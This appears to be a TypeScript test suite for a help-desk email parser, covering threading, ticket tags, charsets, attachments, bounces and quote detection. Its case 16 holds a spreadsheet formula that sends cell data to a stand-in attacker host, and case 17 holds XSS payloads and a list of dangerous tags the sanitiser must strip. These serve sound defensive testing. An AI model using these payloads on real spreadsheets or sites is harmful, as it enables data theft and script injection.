// The parsing expectations of the real-world cases in test/fixtures/cases (threading and ticket counts belong to the pipeline).
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { decodeBytes } from "./charset";
import { extractTicketTags, parseEmail, rewriteCidUrls, stripReplyPrefixes, type ParsedEmail } from "./index";
import { removeRange } from "./quotes";
import { caseInput, fixture, oversizeMessage, PLACEHOLDERS } from "./test-support";

const N = PLACEHOLDERS.N;
const ACK_ID = PLACEHOLDERS.ACK_MESSAGE_ID.slice(1, -1);
const sha = (b: Buffer) => createHash("sha256").update(b).digest("hex");
const names = (p: ParsedEmail) => p.attachments.map((a) => [a.filename, a.size, a.sha256]);

/** Every stored string of a parsed message, for the "no U+FFFD / ESC / =?" rule. */
function storedStrings(p: ParsedEmail): string[] {
  const addrs = [p.from, p.sender, ...p.to, ...p.cc, ...p.replyTo].flatMap((a) => (a ? [a.name, a.address] : []));
  return [p.subject, p.text, p.html ?? "", p.newText, ...addrs, ...p.attachments.map((a) => a.filename)];
}

function expectClean(p: ParsedEmail) {
  for (const s of storedStrings(p)) {
    expect(s).not.toContain("\uFFFD");
    expect(s).not.toContain("\x1b");
    expect(s).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  }
  expect(p.subject).not.toContain("=?");
}

const PARSING_CASE_INPUTS = [
  "01-cc-reply-all-threading/1-original.eml",
  "01-cc-reply-all-threading/2-reply-all.eml",
  "02-reply-to-autoack/1-new.eml",
  "02-reply-to-autoack/2-reply-to-ack.eml.tmpl",
  "02-reply-to-autoack/3-reply-to-agent.eml.tmpl",
  "05-subject-tag-variants/0-seed.eml",
  "05-subject-tag-variants/1-tag-glued.eml.tmpl",
  "05-subject-tag-variants/2-prefix-vs.eml.tmpl",
  "05-subject-tag-variants/3-prefix-stack.eml.tmpl",
  "05-subject-tag-variants/4-tag-inside-encoded-word.eml.tmpl",
  "05-subject-tag-variants/5-tag-only.eml.tmpl",
  "05-subject-tag-variants/6-unknown-number.eml",
  "07-iso2022jp-subject/1-standard.eml",
  "07-iso2022jp-subject/2-nec-special-chars.eml",
  "10-latin1-qp-body/1-alternative-latin1.eml",
  "10-latin1-qp-body/2-cp1252-labelled-latin1.eml",
  "11-attachment-filenames-2231/input.eml",
  "12-inline-cid-no-disposition/input.eml",
  "14-zero-byte-and-oversize/1-zero-byte.eml",
  "15-autoreply-loop/0-seed.eml",
  "15-autoreply-loop/1-out-of-office.eml.tmpl",
  "15-autoreply-loop/2-foreign-helpdesk-ack.eml.tmpl",
  "15-autoreply-loop/3-bounce.eml.tmpl",
  "15-autoreply-loop/4-mailing-list.eml",
  "16-csv-formula-injection/input-email.eml",
  "17-html-xss-body/input.eml",
  "20-merge-keeps-attachments-tags/a.eml",
  "20-merge-keeps-attachments-tags/b.eml",
  "20-merge-keeps-attachments-tags/c-reply-to-b.eml",
];

describe("every parsing case input", () => {
  it.each(PARSING_CASE_INPUTS)("%s parses cleanly", async (file) => {
    const p = await parseEmail(caseInput(file));
    expect(p.parseError).toBeNull();
    expect(p.messageId).not.toMatch(/^synthetic-|[<>]/);
    expect(p.text.length).toBeGreaterThan(0);
    expectClean(p);
  });
});

describe("01 reply-all from a Cc'd person", () => {
  it("keeps the data threading needs", async () => {
    const original = await parseEmail(caseInput("01-cc-reply-all-threading/1-original.eml"));
    expect(original.messageId).toBe("CAF7q2-orig-0001@mail.customer.example.com");
    expect(original.subject).toBe("VPN drops every 10 minutes");
    expect(original.from).toEqual({ name: "Dana Whitfield", address: "dana.whitfield@customer.example.com" });
    expect(original.cc).toEqual([{ name: "Lee Ortega", address: "lee.ortega@customer.example.com" }]);

    const reply = await parseEmail(caseInput("01-cc-reply-all-threading/2-reply-all.eml"));
    expect(reply.messageId).toBe("AM0PR05MB-lee-0002@mail.customer.example.com");
    expect(reply.inReplyTo).toBe(original.messageId);
    expect(reply.references).toEqual([original.messageId]);
    expect(reply.subject).toBe("RE: VPN drops every 10 minutes");
    expect(stripReplyPrefixes(reply.subject)).toBe(original.subject);
    expect(extractTicketTags(reply.subject)).toEqual([]);
    expect(reply.from?.address).toBe("lee.ortega@customer.example.com");
    expect(reply.cc.map((a) => a.address)).toEqual(["support@example.com"]);
    expect(reply.newText).toBe("Same here, it started after the client update last night.\n\nLee");
  });

  it("gives the same ids on redelivery", async () => {
    const a = await parseEmail(caseInput("01-cc-reply-all-threading/2-reply-all.eml"));
    const b = await parseEmail(caseInput("01-cc-reply-all-threading/2-reply-all.eml"));
    expect(b.messageId).toBe(a.messageId);
  });
});

describe("02 replies to our own outbound mail", () => {
  it("extracts In-Reply-To without brackets and no References", async () => {
    const first = await parseEmail(caseInput("02-reply-to-autoack/1-new.eml"));
    expect(first.messageId).toBe("inv-pdf-0001@mail.example.net");
    expect(first.subject).toBe("Cannot download invoice PDF");

    const toAck = await parseEmail(caseInput("02-reply-to-autoack/2-reply-to-ack.eml.tmpl"));
    expect(toAck.inReplyTo).toBe(ACK_ID);
    expect(toAck.references).toEqual([]);
    expect(toAck.subject).toBe("Re: your automatic reply");
    expect(toAck.newText).toBe("Additional detail: it happens in Firefox and in Edge.");
    expect(toAck.auto.isAutoReply).toBe(false);

    const toAgent = await parseEmail(caseInput("02-reply-to-autoack/3-reply-to-agent.eml.tmpl"));
    expect(toAgent.inReplyTo).toBe(PLACEHOLDERS.AGENT_REPLY_MESSAGE_ID.slice(1, -1));
    expect(toAgent.subject).toBe("Re: invoice");
  });
});

describe("05 ticket tag shapes", () => {
  const table: Array<[string, string, string[], string]> = [
    ["0-seed.eml", "Printer on floor 3 jams", [], "Printer on floor 3 jams"],
    ["1-tag-glued.eml.tmpl", `Printer on floor 3 jams[#${N}]still broken`, [N], `Printer on floor 3 jams[#${N}]still broken`],
    ["2-prefix-vs.eml.tmpl", `VS: [#${N}] Printer on floor 3 jams`, [N], `[#${N}] Printer on floor 3 jams`],
    ["3-prefix-stack.eml.tmpl", `SV: AW: Antw: RE: [#${N}] Printer on floor 3 jams`, [N], `[#${N}] Printer on floor 3 jams`],
    ["4-tag-inside-encoded-word.eml.tmpl", `AW: [#${N}] Drucker im 3. Stock stört`, [N], `[#${N}] Drucker im 3. Stock stört`],
    ["5-tag-only.eml.tmpl", `[#${N}]`, [N], `[#${N}]`],
    ["6-unknown-number.eml", "Re: [#99999999] Printer on floor 3 jams", ["99999999"], "[#99999999] Printer on floor 3 jams"],
  ];
  it.each(table)("%s", async (file, subject, tags, stripped) => {
    const p = await parseEmail(caseInput(`05-subject-tag-variants/${file}`));
    expect(p.subject).toBe(subject);
    expect(extractTicketTags(p.subject)).toEqual(tags);
    expect(stripReplyPrefixes(p.subject)).toBe(stripped);
    expect(p.inReplyTo).toBeNull();
    expect(p.references).toEqual([]);
  });
});

describe("07 ISO-2022-JP subject over several encoded words", () => {
  it("decodes file 1 exactly", async () => {
    const p = await parseEmail(caseInput("07-iso2022jp-subject/1-standard.eml"));
    expect(p.subject).toBe("【至急】請求書の再発行のお願い（2025年3月分）と支払期日の確認について");
    expect(p.from).toEqual({ name: "山田 花子", address: "hanako.yamada@example.jp" });
    expect(p.text).toBe(
      "サポートご担当者様\n\nお世話になっております。\n3月分の請求書を再発行していただけますでしょうか。\nよろしくお願いいたします。\n\n山田",
    );
    expect(p.text).toContain("請求書");
    expectClean(p);
  });

  it("decodes the CP50220 (NEC row 13) characters of file 2", async () => {
    const p = await parseEmail(caseInput("07-iso2022jp-subject/2-nec-special-chars.eml"));
    expect(p.subject).toBe("㈱サンプル商事 ①見積書送付の件");
    expect(p.text).toBe("①見積書を送付いたします。");
    expectClean(p);
  });
});

describe("10 ISO-8859-1 quoted-printable bodies", () => {
  it("decodes the multipart/alternative Latin-1 message", async () => {
    const p = await parseEmail(caseInput("10-latin1-qp-body/1-alternative-latin1.eml"));
    expect(p.subject).toBe("Umlaute im Text äöü");
    expect(p.text).toBe("Hallo Support,\n\nfunktioniert das? äöü ÄÖÜ ß\n\nGruß\nKlaus");
    expect(p.html).toContain("funktioniert das? äöü ÄÖÜ ß");
  });

  it("reads an iso-8859-1 label as windows-1252 (WHATWG)", async () => {
    const p = await parseEmail(caseInput("10-latin1-qp-body/2-cp1252-labelled-latin1.eml"));
    expect(p.text).toBe("Preis: 49,90 € “inkl. MwSt.” – bitte prüfen");
    expect(p.text).not.toMatch(/[\u0080-\u009f]/);
  });
});

describe("11 attachment names in RFC 2231 / RFC 2047 encodings", () => {
  it("keeps all five with exact names, sizes and hashes", async () => {
    const p = await parseEmail(caseInput("11-attachment-filenames-2231/input.eml"));
    expect(names(p)).toEqual([
      ["Überweisung März.pdf", 40, "6c7d9a58a170ffc15968e8ee95505c63d31afcf94e485920d92cdbee6d93cc93"],
      ["Änderungsantrag Straße 7.docx", 46, "bb54ba9495b84dea96b145ba02990ae3946524251ec95450cd7754b94b8461e2"],
      ["Rechnung Nr. 12 – Büro.pdf", 40, "b8d832052d111322576cf0605fa879165ec8048c56ee91ff923db063c81965f3"],
      ["Grüße.txt", 21, "03c11802a123a33707c3fbaea8f428f67074809acf91a0e082b396927714906f"],
      ["Capture d’écran 2025-03-04.png", 69, "1db7d0d116a2861ae3ec18d9aa050f56a515c689b89ba5f8bdba68745296632f"],
    ]);
    expect(p.droppedAttachments).toEqual([]);
    for (const a of p.attachments) {
      expect(a.filename).not.toMatch(/=\?|%C3|''|^noname$|^attachment\.bin$/);
      expect(a.filename).toBe(a.filename.normalize("NFC"));
      expect(sha(a.content)).toBe(a.sha256);
      expect(a.content.length).toBe(a.size);
    }
    expect(decodeBytes(p.attachments[3].content, "iso-8859-1")).toBe("Viele Grüße aus Köln\n");
    // Apple Mail's inline disposition does not make an unreferenced part inline.
    expect(p.attachments[4].isInline).toBe(false);
    expect(p.attachments[4].disposition).toBe("inline");
  });
});

describe("12 inline image referenced by cid: without Content-Disposition", () => {
  it("keeps three files, both images inline, and rewrites cid: links", async () => {
    const p = await parseEmail(caseInput("12-inline-cid-no-disposition/input.eml"));
    expect(p.attachments.map((a) => [a.filename, a.size, a.sha256, a.isInline, a.contentId])).toEqual([
      ["image001.png", 69, "71f97b4ac4efe6f10c831ed6b2d0d69d9596c3abba08c79303ecc7c197fdd411", true, "image001.png@01DB8C2A.5E3F1A40"],
      ["logo.png", 69, "2aaab69504af36e855c85487d0ae2abac04c9e808c896b9d92d3c42cdcc3c6a2", true, "logo-7f3a@example.org"],
      ["report.csv", 38, "fe808b736c4444c2f1e84f7cda2f68db4fb074807b34e40ea657c2aef7817152", false, null],
    ]);
    expect(p.attachments.every((a) => a.contentType === (a.filename.endsWith(".csv") ? "text/csv" : "image/png"))).toBe(true);
    const byCid = new Map(p.attachments.map((a, i) => [a.contentId, `/api/staff/attachments/${i + 1}`]));
    const rendered = rewriteCidUrls(p.html!, (cid) => byCid.get(cid) ?? null);
    expect(rendered).not.toContain("cid:");
    expect(rendered).toContain('src="/api/staff/attachments/1"');
    expect(rendered).toContain('src="/api/staff/attachments/2"');
    expect(p.text).toContain("[cid:image001.png@01DB8C2A.5E3F1A40]");
  });
});

describe("14 zero-byte and oversize attachments", () => {
  it("lists the empty attachment", async () => {
    const p = await parseEmail(caseInput("14-zero-byte-and-oversize/1-zero-byte.eml"));
    expect(names(p)).toEqual([
      ["empty.log", 0, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
      ["notes.txt", 14, "8d76e95b17e0b6b77cd031e3057ea8cbeb9330f4189b96bb3dd175d6d6b60aab"],
    ]);
    expect(p.attachments[0].content.length).toBe(0);
  });

  it("reports a 30 MiB attachment as dropped, with its size, and keeps the message", async () => {
    const p = await parseEmail(oversizeMessage(30), { maxAttachmentBytes: 25 * 1024 * 1024 });
    expect(p.parseError).toBeNull();
    expect(p.messageId).toBe("oversize-0001@mail.example.pt");
    expect(p.text).toBe("Crash dump attached.");
    expect(p.attachments).toEqual([]);
    expect(p.droppedAttachments).toEqual([
      expect.objectContaining({ filename: "big.bin", size: 31_457_280, reason: "too_large", limit: 25 * 1024 * 1024 }),
    ]);
  });

  it("keeps the 3 MiB control completely", async () => {
    const p = await parseEmail(oversizeMessage(3));
    expect(p.droppedAttachments).toEqual([]);
    expect(p.attachments).toHaveLength(1);
    expect(p.attachments[0]).toMatchObject({ filename: "big.bin", size: 3_145_728 });
    expect(p.attachments[0].content.length).toBe(3_145_728);
    expect(p.attachments[0].sha256).toBe(sha(Buffer.alloc(3 * 1024 * 1024, 0x41)));
  });
});

describe("15 auto-replies, bounces and lists", () => {
  it("sees nothing automatic in the seed", async () => {
    const p = await parseEmail(caseInput("15-autoreply-loop/0-seed.eml"));
    expect(p.auto).toEqual({ isAutoReply: false, isBounce: false, kind: "none", reason: null });
  });

  it("flags the out-of-office and keeps its threading", async () => {
    const p = await parseEmail(caseInput("15-autoreply-loop/1-out-of-office.eml.tmpl"));
    expect(p.auto).toMatchObject({ isAutoReply: true, isBounce: false, kind: "auto-reply", reason: "Auto-Submitted: auto-replied" });
    expect(p.inReplyTo).toBe(ACK_ID);
    expect(p.references).toEqual(["toner-0001@mail.example.net", ACK_ID]);
    expect(p.headers["x-auto-response-suppress"]).toBe("All");
  });

  it("cannot tell the foreign help desk's ack from a person (the pipeline rate-limits), but threads it", async () => {
    const p = await parseEmail(caseInput("15-autoreply-loop/2-foreign-helpdesk-ack.eml.tmpl"));
    expect(p.auto.isAutoReply).toBe(false);
    expect(p.inReplyTo).toBe(ACK_ID);
    expect(p.subject).toBe("Ticket Received - 286614 - Toner order for Building C");
    expect(p.replyTo).toEqual([{ name: "Vendor Support", address: "support@vendor.example.org" }]);
  });

  it("classifies the bounce and finds the original Message-ID and the failure", async () => {
    const p = await parseEmail(caseInput("15-autoreply-loop/3-bounce.eml.tmpl"));
    expect(p.auto).toMatchObject({ isAutoReply: true, isBounce: true, kind: "bounce" });
    expect(p.auto.bounce).toEqual({
      originalMessageId: ACK_ID,
      recipient: "omar.haddad@example.net",
      status: "5.2.2",
      action: "failed",
      diagnostic: "552 5.2.2 mailbox full",
    });
    expect(p.from?.address).toBe("mailer-daemon@mx.example.net");
    expect(p.headers["return-path"]).toBe("<>");
  });

  it("flags the mailing-list message", async () => {
    const p = await parseEmail(caseInput("15-autoreply-loop/4-mailing-list.eml"));
    expect(p.auto).toMatchObject({ isAutoReply: true, isBounce: false, kind: "list", reason: "Precedence: list" });
    expect(p.headers["list-id"]).toBe("IT Announcements <it-announce.lists.example.net>");
  });

  it("reads the Amazon SES delivery-status sample (message/rfc822 returned)", async () => {
    const p = await parseEmail(fixture("mailparser/delivery-status.eml"));
    expect(p.auto).toMatchObject({ isBounce: true, kind: "bounce" });
    expect(p.auto.bounce).toMatchObject({ originalMessageId: "xxxxx@email.amazonses.com", recipient: "xxxx@xxxx.com", status: "5.1.1", action: "failed" });
    expect(p.auto.bounce?.diagnostic).toMatch(/^Amazon SES did not send the message/);
    expect(p.attachments.map((a) => a.filename)).toEqual(["attachment-1.txt", "attachment-2.eml"]);
  });
});

describe("16 formula payloads arrive unchanged", () => {
  it("keeps subject and display name byte-for-byte (escaping is export-only)", async () => {
    const p = await parseEmail(caseInput("16-csv-formula-injection/input-email.eml"));
    expect(p.subject).toBe('=IMPORTXML(CONCAT("https://attacker.example/?d=",A1),"//a")');
    expect(p.from).toEqual({ name: "=1+2", address: "csv.four@example.com" });
  });
});

describe("17 HTML email body with XSS", () => {
  const attributeValues = (html: string, name: string) =>
    [...html.matchAll(new RegExp(`\\s${name}\\s*=\\s*"([^"]*)"`, "gi"))].map((m) =>
      m[1].replace(/&#(\d+);/g, (_x, d: string) => String.fromCharCode(Number(d))).replace(/&amp;/g, "&").replace(/&quot;/g, '"').trim(),
    );

  it("removes every active construct and keeps the harmless markup", async () => {
    const p = await parseEmail(caseInput("17-html-xss-body/input.eml"));
    const html = p.html!;
    for (const tag of ["script", "iframe", "form", "input", "button", "svg", "math", "style", "mglyph", "mtext", "object", "embed", "meta", "link", "base"]) {
      expect(html).not.toMatch(new RegExp(`<${tag}\\b`, "i"));
    }
    expect(html).not.toMatch(/<[^>]*\son[a-z]*\s*=/i);
    for (const v of [...attributeValues(html, "href"), ...attributeValues(html, "src")]) {
      expect(v.toLowerCase()).not.toMatch(/^(?:javascript|vbscript):/);
    }
    expect(html).not.toMatch(/expression\s*\(/i);
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toContain("attacker.example");
    expect(html).not.toContain("alert(");

    // The tracking pixel is blocked, not loaded: its URL only survives in data-remote-src.
    expect(p.hasRemoteImages).toBe(true);
    expect(attributeValues(html, "src").some((v) => v.includes("tracker.example"))).toBe(false);
    expect(html).toContain('data-remote-src="https://tracker.example/pixel.gif"');

    expect(html).toContain("<p>Hello <b>team</b>,</p>");
    expect(html).toContain("<i>italic</i>");
    expect(html).toContain("<u>underline</u>");
    expect(html).toContain("<ul><li>list item</li></ul>");
    expect(html).toContain('<table border="1"><tr><td>cell</td></tr></table>');
    expect(html).toContain('<a href="https://status.example.com/incident/42" target="_blank" rel="noopener noreferrer">real status</a>');
  });

  it("keeps subject, display name and plain text literally", async () => {
    const p = await parseEmail(caseInput("17-html-xss-body/input.eml"));
    expect(p.subject).toBe("<img src=x onerror=alert(8)> Login broken");
    expect(p.from).toEqual({ name: "Eve <svg onload=alert(7)>", address: "eve.attacker@example.org" });
    expect(p.text).toContain("<script>alert('plain')</script>");
  });
});

describe("20 merge keeps attachments", () => {
  it("extracts the log attachment and the search marker", async () => {
    const b = await parseEmail(caseInput("20-merge-keeps-attachments-tags/b.eml"));
    expect(names(b)).toEqual([["fan-noise.log", 204, "95df41dc68640260acf524c7f146fb5dcdf0b9588dea5ea2adf5f28102aca195"]]);
    expect(b.text).toContain("zebra-marker-8841");
    const c = await parseEmail(caseInput("20-merge-keeps-attachments-tags/c-reply-to-b.eml"));
    expect(c.inReplyTo).toBe(b.messageId);
    expect(c.references).toEqual([b.messageId]);
  });
});

describe("24 Outlook message with raw 8-bit Latin-1 headers", () => {
  it("decodes header bytes with the text part's charset", async () => {
    const raw = fixture("hunnysoft/m0001.eml");
    expect(sha(raw)).toBe("f784e27dc2f7d8a191a7c19628f1353df48b412f14cd0fac9afbf96e4d3a0228");
    const p = await parseEmail(raw);
    expect(p.subject).toBe("Die Hasen und die Frösche (Microsoft Outlook 00)");
    expect(p.from).toEqual({ name: "Doug Sauder", address: "doug@example.com" });
    expect(p.to).toEqual([{ name: "Jürgen Schmürgen", address: "schmuergen@example.com" }]);
    expect(p.messageId).toBe("NDBBIAKOPKHFGPLCODIGIEKBCHAA.doug@example.com");
    expect(p.text.startsWith("Die Hasen und die Frösche")).toBe(true);
    for (const word of ["mißliche", "ärger", "für allemal", "unglücklicher"]) expect(p.text).toContain(word);
    expect(p.attachments).toEqual([]);
    expectClean(p);
  });
});

describe("26 Outlook multipart/related with two cid images", () => {
  it("keeps both images inline and leaves no cid: after rewriting", async () => {
    const raw = fixture("hunnysoft/m0016.eml");
    expect(sha(raw)).toBe("c2cf6ce6c94797a294aede51f8392ff87d6e96b3fcc59901b5abb8032d5abc88");
    const p = await parseEmail(raw);
    expect(p.subject).toBe("Test message from Microsoft Outlook 00");
    expect(p.from).toEqual({ name: "Doug Sauder", address: "doug@example.com" });
    expect(p.text.startsWith("The Hare and the Tortoise")).toBe(true);
    expect(p.attachments.map((a) => [a.filename, a.contentId, a.size, a.sha256, a.isInline])).toEqual([
      ["blueball.png", "823504223@17052000-0f8d", 1325, "68aa843030f8c6ad625450054732fe0f3a680496d98f957d578192fa4469cec2", true],
      ["redball.png", "823504223@17052000-0f94", 1453, "63aa82493459d1a5ac267e20109d380ba995788f7fa13ed43021ebb37ead6fc5", true],
    ]);
    expect(p.attachments.filter((a) => !a.isInline)).toEqual([]);
    const rendered = rewriteCidUrls(p.html!, (cid) => `/files/${encodeURIComponent(cid)}`);
    expect(rendered).not.toContain("cid:");
    expect(rendered.indexOf("/files/823504223%4017052000-0f8d")).toBeLessThan(rendered.indexOf("/files/823504223%4017052000-0f94"));
  });
});

describe("29 Ryan Finnie's MIME torture test", () => {
  it("keeps the nine leaf parts and makes every nested message readable", async () => {
    const raw = fixture("postal-mime/mimetorture.eml");
    expect(sha(raw)).toBe("64a48d73bd9a43b7d31ce7bee0c538d281d956616a4b2e5ced55032fc14bfe8e");
    const started = performance.now();
    const p = await parseEmail(raw);
    expect(performance.now() - started).toBeLessThan(1000);
    expect(p.parseError).toBeNull();
    expect(p.subject).toBe("Ryan Finnie's MIME Torture Test v1.0");
    expect(p.from).toEqual({ name: "Ryan Finnie", address: "rfinnie@domain.dom" });
    expect(p.text.startsWith("Welcome to Ryan Finnie's MIME torture test.")).toBe(true);
    const gz = "0a89612b85eac5f191ba470e956955f07f3151d04b411ab0962a3389dc840f13";
    expect(p.attachments.map((a) => [a.filename, a.size, a.sha256, a.isInline])).toEqual([
      ["foo.gz", 42, gz, false],
      ["blah.gz", 288, "f18aef56d3852e99eeb2c8e6bcf7bd9ecdb70c5db4e87e7eb779f8d4b3c68ebc", false],
      ["blah1.gz", 42, gz, false],
      ["attachment-4.gz", 42, gz, false],
      ["htmlfile.html", 112, "5da5b528a0fcda4500622fb75770ad88c8d572fc91ee17c537bdc6f5d1172be7", false],
      ["smiley-3.png", 819, "d9bbd51eca894e59ed2535e35fe3d4d1c34edb57e626747d2315b77798e4977f", true],
      ["dot.gif", 68, "a0b46c0fb975d9ef629a0dfdfdd184394cea51ad643e345b99e7ffba20ab6595", false],
      ["signature.asc", 189, "bade4f2ab0a6f6f0cd75047033beb17d9441bc94ea3389504d469471e5443250", false],
      ["attachment-9.gif", 83, "25e598a303367bf7e88b33e04c6ec67c9cc1f61b0515b61d2dd17242275097db", true],
    ]);
    expect(p.attachments[8].contentId).toBe("1066973340.4232.46.camel@localhost");
    // Nested messages are rendered inline below the body (text and HTML), not kept as .eml files.
    for (const s of ["plain jane message", "the original message", "3rd layer deep", "JUST contains an attachment", "This is the second text part."]) {
      expect(p.text).toContain(s);
    }
    expect(p.html).toContain("JUST contains an attachment");
    expect(p.newText.startsWith("Welcome to Ryan Finnie's MIME torture test.")).toBe(true);
    expectClean(p);
  });
});

describe("33 replies with quoted history from common clients", () => {
  const talon = async (name: string) => parseEmail(fixture(`talon/${name}`));

  it.each([
    ["gmail.eml", "Re: Test"],
    ["apple_mail.eml", "Re: Test"],
    ["hotmail.eml", "RE: Test"],
    ["thunderbird.eml", "Re: Test"],
  ])("%s: new text is Hello", async (file, subject) => {
    const p = await talon(file);
    expect(p.newText).toBe("Hello");
    expect(p.subject).toBe(subject);
    expect(p.text).toMatch(/Hi/); // the quoted history is kept in the stored body
  });

  it("iphone.eml: keeps the signature, QP soft break inside 'wrote' joined", async () => {
    const p = await talon("iphone.eml");
    expect(p.newText).toBe(fixture("talon/iphone_reply_text").toString("utf8").trim());
    expect(p.text).toContain("bob <bob@example.com> wrote:");
    expect(p.quote.textStart).toBe(p.text.indexOf("On Apr 3, 2012"));
  });

  it("thunderbird.eml: format=flowed lines of different quote depth stay apart; reply below the quote", async () => {
    const p = await talon("thunderbird.eml");
    expect(p.text).toBe("On 04/02/2012 06:26 PM, Megan One wrote:\n> Hi \nHello");
    expect(p.quote).toMatchObject({ textStart: 0, textEnd: p.text.indexOf("Hello") });
  });

  it("outlook.eml: new text comes from the displayed (HTML) part; the text part's would be Hello", async () => {
    const p = await talon("outlook.eml");
    expect(p.subject).toBe("Test");
    expect(p.html).not.toBeNull();
    expect(p.newText).toBe("Allo! Follow up MIME!");
    const textRange = p.quote.textStart === null ? null : { start: p.quote.textStart, end: p.quote.textEnd! };
    expect(removeRange(p.text, textRange)).toBe("Hello");
  });

  it("gmail.eml: the HTML quote starts at the gmail_quote div", async () => {
    const p = await talon("gmail.eml");
    expect(p.html!.slice(p.quote.htmlStart!)).toMatch(/^<div class="gmail_quote">/);
    expect(p.quote.htmlEnd).toBe(p.html!.length);
  });
});
